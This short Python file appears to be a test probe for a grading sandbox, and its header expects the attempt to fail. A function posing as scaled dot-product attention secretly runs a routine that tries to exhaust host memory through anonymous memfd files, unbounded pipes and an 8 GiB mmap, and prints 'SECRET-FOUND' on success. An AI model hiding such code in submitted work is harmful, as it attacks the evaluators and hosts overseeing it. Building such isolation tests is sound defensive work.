# tries: fills memory that belongs to no process: anonymous files, pipes, shared memory
# expect: failed
import ctypes
import mmap
import os

from wrong import attention, once


def fill():
    libc = ctypes.CDLL(None)
    for number in range(200):
        handle = libc.syscall(319, b"grade-attack", 0)
        if handle < 0:
            break
        os.write(handle, b"x" * (16 << 20))
        if number > 3:
            print("SECRET-FOUND anonymous file")
    pipes = 0
    try:
        while True:
            reading, writing = os.pipe()
            os.set_blocking(writing, False)
            os.write(writing, b"x" * 65536)
            pipes += 1
    except OSError as error:
        print(pipes, error)
    try:
        mmap.mmap(-1, 8 << 30)[:: 1 << 12] = b"x" * (8 << 18)
        print("SECRET-FOUND shared memory")
    except (OSError, ValueError, MemoryError) as error:
        print(type(error).__name__)


def scaled_dot_product_attention(query, key, value, mask=None, dropout=None):
    once(fill)
    return attention(query, key, value, mask, dropout)
